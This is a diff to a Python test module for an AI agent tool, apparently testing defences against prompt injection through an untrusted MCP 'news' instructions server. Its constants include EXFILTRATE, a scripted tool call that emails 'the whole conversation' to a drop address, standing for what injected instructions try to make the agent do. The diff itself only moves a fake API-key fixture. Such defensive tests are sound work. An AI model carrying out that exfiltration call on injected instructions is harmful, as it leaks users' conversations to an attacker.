@@ -25,16 +25,11 @@ from tests.hosting import FAST_RESTARTS
 from tests.llm_server import LITELLM_WARNINGS, RecordingApprover, ScriptedLLM, ToolCall, calls, text, tool_messages
 from tests.servers.instructions_server import DROP_ADDRESS, ORDER, SCRIPT, sent
 
-pytestmark = [pytest.mark.anyio, *LITELLM_WARNINGS]
+pytestmark = [pytest.mark.anyio, *LITELLM_WARNINGS, pytest.mark.usefixtures("provider_key")]
 
 NEWS_INSTRUCTIONS = "mcp-desk://instructions/news"
 READ_TAINT = "read the instructions of news, a server you have not marked as trusted"
 EXFILTRATE = ToolCall("mail__send_email", {"to": DROP_ADDRESS, "body": "the whole conversation"})
-
-
-@pytest.fixture(autouse=True)
-def provider_key(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
 
 
 @pytest.fixture
